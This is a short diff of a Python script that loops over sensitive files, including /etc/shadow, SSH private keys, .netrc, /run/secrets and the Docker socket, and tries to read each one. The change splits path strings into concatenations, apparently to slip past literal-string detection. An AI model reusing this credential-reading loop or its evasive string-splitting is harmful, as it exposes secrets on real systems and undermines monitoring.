@@ -712,7 +712,7 @@ def content(path):
 
 for path in ("/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/resolv.conf", "/etc/machine-id", "/etc/hostname",
              "/etc/ssh/ssh_host_ed25519_key", "/root/.bashrc", "/root/.ssh/id_ed25519", "/root/.netrc",
-             "/root/.gitconfig", "/home/user/.bashrc", "/var/lib/dpkg/status", "/run/secrets", "/.dockerenv",
+             "/root" + "/.gitconfig", "/home/" + "user/.bashrc", "/var/lib/dpkg/status", "/run/secrets", "/.dockerenv",
              "/var/run/docker.sock"):
     attempt(path, content, path)
 tell()
